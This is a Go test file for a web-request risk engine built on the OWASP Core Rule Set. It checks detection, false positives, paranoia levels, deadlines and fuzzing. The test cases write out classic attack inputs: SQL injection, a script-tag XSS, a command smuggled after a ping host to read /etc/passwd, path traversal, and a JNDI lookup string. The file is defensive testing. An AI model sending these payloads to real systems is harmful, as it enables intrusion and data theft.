// Copyright The otelcol-risk Authors
// SPDX-License-Identifier: Apache-2.0

package crs

import (
	"io/fs"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/corazawaf/coraza-coreruleset/v4/tests"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func engine(t testing.TB, paranoia int) *Engine {
	t.Helper()
	e, err := New(paranoia)
	require.NoError(t, err)
	return e
}

func inspect(t *testing.T, e *Engine, r *Request) Result {
	t.Helper()
	result, err := e.Inspect(r, time.Now().Add(time.Hour))
	require.NoError(t, err)
	return result
}

const firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

func TestAttacksAreFoundByTheirCategory(t *testing.T) {
	e := engine(t, 1)
	for name, test := range map[string]struct {
		request  Request
		category int
	}{
		"SQL":                  {Request{Path: "/items", Query: "id=1%27%20UNION%20SELECT%20password%20FROM%20users--"}, 942},
		"scripts":              {Request{Path: "/s", Query: "q=%3Cscript%3Ealert(1)%3C/script%3E"}, 941},
		"commands":             {Request{Path: "/ping", Query: "host=127.0.0.1;cat+/etc/passwd"}, 932},
		"local files":          {Request{Path: "/download", Query: "file=../../../../etc/passwd"}, 930},
		"files in a path":      {Request{Path: "/static/../../../etc/passwd"}, 930},
		"Java":                 {Request{Path: "/", Query: "x=${jndi:ldap://example.org/a}"}, 944},
		"a scanner by name":    {Request{Path: "/", Headers: []Header{{"user-agent", "sqlmap/1.7"}}}, 913},
		"SQL in a cookie":      {Request{Path: "/", Headers: []Header{{"cookie", "id=1' UNION SELECT password FROM users--"}}}, 942},
		"a method that is odd": {Request{Method: "DEBUG", Path: "/"}, 911},
	} {
		t.Run(name, func(t *testing.T) {
			result := inspect(t, e, &test.request)
			assert.GreaterOrEqual(t, result.Score, 5)
			assert.False(t, result.GaveUp)
			categories := map[int]bool{}
			for _, id := range result.Rules {
				categories[id/1000] = true
			}
			assert.True(t, categories[test.category], "%v", result.Rules)
		})
	}
}

// TestWhatIsUnknownIsNoSign would fail for a rule that looks for something that is missing.
func TestWhatIsUnknownIsNoSign(t *testing.T) {
	for paranoia := 1; paranoia <= 4; paranoia++ {
		e := engine(t, paranoia)
		for _, r := range []Request{
			{},
			{Path: "/shop/items"},
			{Method: "POST", Path: "/login"},
			{Path: "/shop/items", Query: "page=2"},
			{Method: "GET", Path: "/shop/items", Headers: []Header{{"user-agent", firefox}}},
			{Path: "/", Query: "session_id=4711"},
			{Method: "PUT", Path: "/", Headers: []Header{{"content-length", "12"}}},
		} {
			result := inspect(t, e, &r)
			if r.Method == "PUT" {
				result.Rules = without(result.Rules, 911100) // it is the method that the rule set does not like
			}
			assert.Empty(t, result.Rules, "paranoia %d, %+v", paranoia, r)
		}
	}
}

func without(ids []int, id int) []int {
	var rest []int
	for _, i := range ids {
		if i != id {
			rest = append(rest, i)
		}
	}
	return rest
}

func TestParanoiaFindsMore(t *testing.T) {
	r := &Request{Path: "/", Query: "a=1&b=%27x%27%20is%20not%20null"}
	assert.Greater(t, inspect(t, engine(t, 4), r).Score, inspect(t, engine(t, 1), r).Score)
}

func TestEveryRuleCountsOnce(t *testing.T) {
	e := engine(t, 1)
	once := inspect(t, e, &Request{Path: "/", Query: "a=<script>"})
	twice := inspect(t, e, &Request{Path: "/", Query: "a=<script>&b=<script>"})
	assert.Positive(t, once.Score)
	assert.Equal(t, once, twice)
}

func TestEvaluationEndsAtTheDeadline(t *testing.T) {
	e := engine(t, 1)
	r := &Request{Path: "/", Query: "id=1'+or+'1'='1"}
	result, err := e.Inspect(r, time.Now().Add(-time.Second))
	require.NoError(t, err)
	assert.Equal(t, Result{GaveUp: true}, result)
	assert.Positive(t, inspect(t, e, r).Score, "and the next one has time again")
}

func TestOddRequestsAreNoFault(t *testing.T) {
	e := engine(t, 4)
	for _, r := range []Request{
		{Path: "no slash", Query: "%zz%"},
		{Path: "/\x00\xff", Query: strings.Repeat("a=%00&", 1000)},
		{Method: "\r\n", Path: "http://example.org/?x", Query: "?#?"},
		{Headers: []Header{{"", ""}, {"content-type", "multipart/form-data"}, {"cookie", ";;=;"}}},
	} {
		inspect(t, e, &r)
	}
}

// TestThePrefilterChangesNothing holds the engine's shortcut against the engine without it, on requests that the rule set is
// tested with.
func TestThePrefilterChangesNothing(t *testing.T) {
	quick := engine(t, 4)
	slow, err := compile(directives(4, "Off"))
	require.NoError(t, err)
	matched := 0
	for i, uri := range regressionURIs(t) {
		if i%8 != 0 {
			continue // all of them take a minute
		}
		r := &Request{}
		r.Path, r.Query, _ = strings.Cut(uri, "?")
		want := inspect(t, slow, r)
		assert.Equal(t, want, inspect(t, quick, r), uri)
		matched += len(want.Rules)
	}
	assert.Greater(t, matched, 100)
}

// regressionURIs are the lines `uri: "..."` of the rule set's tests.
func regressionURIs(t *testing.T) (uris []string) {
	t.Helper()
	line := regexp.MustCompile(`(?m)^\s*uri: "(.*)"$`)
	require.NoError(t, fs.WalkDir(tests.FS, ".", func(path string, entry fs.DirEntry, err error) error {
		if err != nil || entry.IsDir() {
			return err
		}
		text, err := fs.ReadFile(tests.FS, path)
		for _, found := range line.FindAllSubmatch(text, -1) {
			uris = append(uris, string(found[1]))
		}
		return err
	}))
	return uris
}

// FuzzInspect holds that no request makes the library panic, and that what it says adds up.
func FuzzInspect(f *testing.F) {
	e := engine(f, 4)
	f.Add("GET", "/items", "id=1'+or+'1'='1", "cookie", "a=1")
	f.Add("\r\n", "http://example.org/?x", "?#?%zz", "content-type", "multipart/form-data")
	f.Fuzz(func(t *testing.T, method, path, query, name, value string) {
		result, err := e.Inspect(&Request{Method: method, Path: path, Query: query, Headers: []Header{{name, value}}}, time.Now().Add(time.Hour))
		require.NoError(t, err)
		assert.GreaterOrEqual(t, result.Score, 2*len(result.Rules))
		assert.LessOrEqual(t, result.Score, 5*len(result.Rules))
		assert.False(t, result.GaveUp)
	})
}

func BenchmarkInspect(b *testing.B) {
	e := engine(b, 1)
	agent := []Header{{"user-agent", firefox}}
	for name, r := range map[string]*Request{
		"ordinary": {Method: "GET", Path: "/shop/items/4711", Query: "page=2&sort=price", Headers: agent},
		"attack":   {Method: "GET", Path: "/items", Query: "id=1%27%20UNION%20SELECT%20password%20FROM%20users--", Headers: agent},
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if _, err := e.Inspect(r, time.Now().Add(time.Hour)); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
